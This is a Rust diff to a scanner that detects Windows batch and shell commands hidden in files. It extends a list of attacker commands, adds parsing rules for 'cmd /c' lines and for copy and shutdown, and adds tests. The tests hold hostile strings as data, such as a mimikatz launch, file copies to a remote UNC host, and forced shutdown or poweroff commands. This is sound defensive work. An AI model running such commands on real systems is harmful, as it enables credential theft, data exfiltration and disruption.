@@ -29,7 +29,8 @@ mod vim_buffer;
 pub use vim_buffer::MAX_VIM_EXECUTE_NESTING;
 
 /// Commands that do an attacker's work on their own: fetch, run code, open a shell.
-const STRONG: [&[u8]; 48] = [
+const STRONG: [&[u8]; 49] = [
+    b"poweroff",
     b"awk",
     b"gawk",
     b"mawk",
@@ -783,6 +784,65 @@ fn tool_argument(tool: &[u8], after: &[u8], chance_bytes: bool, piped: bool) -> 
         || (tool == b"explorer" && names_remote_host(token))
 }
 
+/// Whether `start` (a command as cmd.exe reads it, from its program) is cmd.exe given a
+/// switch that runs the rest of its line (`cmd /c`, `cmd.exe /k`, `"cmd" /c`).
+fn cmd_line_runs_a_command(start: &[u8]) -> bool {
+    let name_len = start
+        .iter()
+        .position(|&b| ends_word(b) || b == b'/')
+        .unwrap_or(start.len());
+    let name: Vec<u8> = start[..name_len]
+        .iter()
+        .filter(|&&b| b != b'"')
+        .map(u8::to_ascii_lowercase)
+        .collect();
+    let file = &name[name
+        .iter()
+        .rposition(|&b| b == b'\\')
+        .map_or(0, |at| at + 1)..];
+    if without_program_extension(file) != b"cmd" {
+        return false;
+    }
+    let names = BATCH_SWITCHES
+        .iter()
+        .find(|(name, _, _)| *name == b"cmd")
+        .map_or(&[][..], |&(_, _, names)| names);
+    let rest = &start[name_len..];
+    leading_arguments(rest, false).any(|word| {
+        let word = word.strip_prefix(b"\"").unwrap_or(word);
+        word.first() == Some(&b'/')
+            && word[1..]
+                .split(|&b| b == b'/')
+                .any(|part| slash_switch(names, part) == Some(true))
+    })
+}
+
+/// Notes the line a `cmd /c` at `at` starts, to its line feed: each line is searched for
+/// its end once (a line of `cmd /c&cmd /c&…` is read once, not from each).
+fn note_launched_line(bytes: &[u8], at: usize, variables: &mut Variables) {
+    if variables
+        .launched
+        .as_ref()
+        .is_some_and(|line| line.start <= at && at < line.end)
+    {
+        return;
+    }
+    let rest = bytes.get(at..).unwrap_or_default();
+    let end = at + memchr::memchr2(b'\n', CTRL_Z, rest).unwrap_or(rest.len());
+    variables.launched = Some(at..end);
+}
+
+/// Whether `start`, a command after an operator on a line `cmd /c` runs (`cmd /c echo x
+/// & calc`: review of session 41, item 3), is one cmd.exe runs to effect: as a launcher's
+/// command is judged ([`runs_command`]), or a tool named here ([`known_tool`]).
+fn launched_command(start: &[u8], chance_bytes: bool) -> bool {
+    let end = start
+        .iter()
+        .position(|&b| ends_word(b) || matches!(b, b'"' | b'/'))
+        .unwrap_or(start.len());
+    runs_command(start, chance_bytes) || known_tool(&start[..end])
+}
+
 /// Whether cmd.exe, given `line` (its arguments as it reads them, carets dropped), runs
 /// a command: the rest of the line after its first switch that takes it (`/c`, `/k`,
 /// `/r` of [`BATCH_SWITCHES`], glued to it or not: `/ccalc`, `/c/x`) is a command
@@ -1241,7 +1301,17 @@ fn argues_danger(tool: &[u8], line: &[u8], chance_bytes: bool, piped: bool) -> b
         // move and xcopy refuse the line ("The syntax of the command is incorrect.",
         // "Invalid number of parameters") and copy nothing (session 41: `copy of report:
         // \\PACSRV01\reports\2024` in a report alerted).
-        b"copy" | b"xcopy" | b"move" => remote_file() && (1..=2).contains(&operands(&words)),
+        // cmd.exe takes `;`, `,` and `=` for blanks, copy's own reader may join what
+        // they part (`copy a;b \\host\s`, review of session 41): a count within copy's
+        // by either reading is a copy it makes.
+        b"copy" | b"xcopy" | b"move" => {
+            remote_file()
+                && ((1..=2).contains(&operands(&words))
+                    || (1..=2).contains(&operands(&before_block_end(blank_words(
+                        line,
+                        chance_bytes,
+                    )))))
+        }
         b"expand" => remote_file() || any_switch(&[b"f:"]),
         b"format" => {
             let drive = |word: &[u8]| matches!(word, [letter, b':'] | [letter, b':', b'\\'] if letter.is_ascii_alphabetic());
@@ -1252,7 +1322,9 @@ fn argues_danger(tool: &[u8], line: &[u8], chance_bytes: bool, piped: bool) -> b
                 ]) || piped
                     || stdin_from_file(line, chance_bytes))
         }
-        b"shutdown" => shutdown_acts(&words),
+        // shutdown.exe splits its arguments at blanks only (`/c reason=patch` is one
+        // value), where cmd.exe's own commands take `;`, `,` and `=` for blanks.
+        b"shutdown" => shutdown_acts(&before_block_end(blank_words(line, chance_bytes))),
         // In binary values both names in printable ASCII: `\nren ` then a `*` in a word
         // of chance bytes is ~2e-6 a window (ARCHITECTURE invariant 11).
         b"ren" | b"rename" => {
@@ -1344,15 +1416,25 @@ fn shutdown_acts(words: &[&[u8]]) -> bool {
         }
         let mut valued = false;
         for part in parts.split(|&b| b == dash) {
+            // A value glued by a colon (`/t:0`, `/d:p:4:1`) is the switch's own.
+            let (part, glued) = match memchr::memchr(b':', part) {
+                Some(colon) if colon + 1 < part.len() => (&part[..colon], true),
+                Some(_) => return false,
+                None => (part, false),
+            };
             if !SHUTDOWN_SWITCHES
                 .iter()
                 .any(|name| name.eq_ignore_ascii_case(part))
             {
                 return false;
             }
-            valued = SHUTDOWN_VALUED
+            let takes_value = SHUTDOWN_VALUED
                 .iter()
                 .any(|name| name.eq_ignore_ascii_case(part));
+            if glued && !takes_value {
+                return false;
+            }
+            valued = takes_value && !glued;
         }
         if valued && words.next().is_none() {
             return false;
@@ -1737,6 +1819,26 @@ const ESCAPED_OPERATOR: u8 = 0x00;
 /// a line's end: each is read within its line.
 fn leading_arguments(rest: &[u8], chance_bytes: bool) -> impl Iterator<Item = &[u8]> {
     leading_argument_spans(rest, chance_bytes).map(move |span| &rest[span])
+}
+
+/// [`leading_arguments`] as a program that splits its command line at blanks only reads
+/// them (shutdown.exe, and copy's own reader): words cmd.exe's delimiters `;`, `,` and
+/// `=` part with no blank between them are one (`reason=patch`, `Patch,now`).
+fn blank_words(rest: &[u8], chance_bytes: bool) -> Vec<&[u8]> {
+    let mut words: Vec<Range<usize>> = Vec::new();
+    for span in leading_argument_spans(rest, chance_bytes) {
+        match words.last_mut() {
+            Some(last)
+                if rest[last.end..span.start]
+                    .iter()
+                    .all(|&b| is_token_delimiter(b) && !matches!(b, b' ' | b'\t')) =>
+            {
+                last.end = span.end;
+            }
+            _ => words.push(span),
+        }
+    }
+    words.into_iter().map(|span| &rest[span]).collect()
 }
 
 /// Where each of [`leading_arguments`] stands in `rest`.
@@ -4845,16 +4947,16 @@ pub fn find_batch_command_within(
     // A block the first line opens holds the lines after it.
     let mut blocks = Blocks::default();
     let binary = Binary(binary);
-    let first = batch_command_at(bytes, 0, &mut Variables::default(), &mut blocks, binary);
+    // One reading of the file's `set` commands (and one budget of expansion) for the
+    // first line and the search after it.
+    let mut variables = Variables::default();
+    let first = batch_command_at(bytes, 0, &mut variables, &mut blocks, binary);
     if first.as_ref().is_some_and(|found| !by_chance(found)) {
         return first;
     }
     // A command by chance on the first line stays the one reported unless the search
     // finds one that is not.
-    match (
-        first,
-        search_batch(bytes, Variables::default(), blocks, clock, binary),
-    ) {
+    match (first, search_batch(bytes, variables, blocks, clock, binary)) {
         (Some(first), Some(later)) if by_chance(&later) => Some(first),
         (first, later) => later.or(first),
     }
@@ -5658,6 +5760,25 @@ fn command_at(
             });
         }
     };
+    if cmd_line_runs_a_command(start) {
+        note_launched_line(bytes, offset, variables);
+    } else if variables
+        .launched
+        .as_ref()
+        .is_some_and(|line| line.start < offset && offset < line.end)
+        && launched_command(start, chance_bytes)
+    {
+        return Some(Command {
+            offset,
+            interpreter: "batch",
+            severity: Severity::Alert,
+            kind: FindingKind::ActiveContent,
+            detail: format!(
+                "a Windows command line (\"{}\") after an operator on a line that cmd /c runs: cmd.exe runs it as a command of its own",
+                line_excerpt(bytes, offset)
+            ),
+        });
+    }
     let Some((program, alone)) =
         batch_program(start, named_by_path, pathext, in_block, chance_bytes, piped)
     else {
@@ -6479,6 +6600,9 @@ struct Variables {
     /// and whether there were more than were kept.
     inherited: Vec<(Vec<u8>, Option<Vec<u8>>)>,
     inherited_full: bool,
+    /// The last line a `cmd /c` (or `/k`) starts: from its program to its line feed.
+    /// What follows an operator there is a command cmd.exe runs ([`launched_command`]).
+    launched: Option<Range<usize>>,
 }
 
 impl Variables {
@@ -9788,6 +9912,86 @@ mod lolbin_tests {
             "EGENIX.COM SOFTWARE LICENSE",
             "www.example.com",
         ]);
+    }
+
+    /// Review of session 41 (issue 10, item 3): shutdown.exe splits its arguments at
+    /// blanks only, so `reason=patch` and `Patch,now` are one value of `/c`, and it takes
+    /// a switch's value glued by a colon (`/t:0`); prose with such bytes stays prose.
+    #[test]
+    fn shutdown_reads_its_words_split_at_blanks_only() {
+        assert_alerts(
+            &[
+                "shutdown /r /t 0 /c reason=patch",
+                "shutdown /r /t 0 /c Patch,now",
+                "shutdown /r /t:0",
+                "shutdown -s -t:30 -f",
+            ],
+            &[false, true],
+        );
+        assert_clean(&[
+            "Shutdown -r delayed due to emergency",
+            "Shutdown -r delayed=patch",
+            "shutdown /r /t:",
+        ]);
+    }
+
+    /// Review of session 41 (issue 10, item 3): what follows `&`, `&&`, `||` or `|` on a
+    /// line that `cmd /c` (or `/k`) starts is a command of its own, run by cmd.exe
+    /// (`cmd /c echo x & calc` runs calc): judged as what a launcher runs.
+    #[test]
+    fn a_command_after_an_operator_on_a_cmd_c_line_is_run() {
+        assert_alerts(
+            &[
+                "cmd /c echo x & calc",
+                "cmd /c setlocal & mimikatz",
+                "cmd /k ver && calc.exe",
+                "cmd.exe /c echo x || notepad",
+            ],
+            &[false, true],
+        );
+        assert_clean(&["cmd /c echo of CBD seen & fluid", "Echo x & calc"]);
+    }
+
+    /// Review of session 41 (issue 10, item 3): cmd.exe reads `;`, `,` and `=` as blanks
+    /// between arguments, where copy's own reader may join them: an operand count within
+    /// copy's by either reading is a copy it makes (`copy a;b \\host\s`).
+    #[test]
+    fn copy_operands_joined_by_cmds_delimiters_are_counted_both_ways() {
+        assert_alerts(
+            &[
+                "copy a;b \\\\198.51.100.7\\s",
+                "copy C:\\PACS\\a.dcm,\\\\198.51.100.7\\s",
+                "move a=b \\\\198.51.100.7\\s",
+            ],
+            &[false, true],
+        );
+        assert_clean(&["copy of report: \\\\PACSRV01\\reports\\2024"]);
+    }
+
+    /// Review of session 41 (issue 10, item 3): Linux's `shutdown -h now`, `poweroff` and
+    /// `reboot -f` as sh text (the ENOEXEC fallback runs it) had no rule; their prose
+    /// (`Shutdown -r delayed`, `reboot of the scanner`) stays clean.
+    #[test]
+    fn linux_power_commands_in_sh_text_are_commands() {
+        for text in [
+            "shutdown -h now\n",
+            "poweroff\n",
+            "reboot -f\n",
+            "shutdown now\n",
+            "halt -p\n",
+            "Findings stable\nshutdown -r +1\n",
+        ] {
+            let found = find_shell_command(text.as_bytes()).map(|found| found.severity);
+            assert_eq!(found, Some(Severity::Alert), "{text:?}");
+        }
+        for text in [
+            "Shutdown -r delayed due to emergency\n",
+            "reboot of the scanner went fine\n",
+            "halt the infusion\n",
+            "shutdown of the scanner\n",
+        ] {
+            assert_eq!(find_shell_command(text.as_bytes()), None, "{text:?}");
+        }
     }
 
     /// Review rv41-screen (F1): report lines that `start` or `at` read as handing a plain
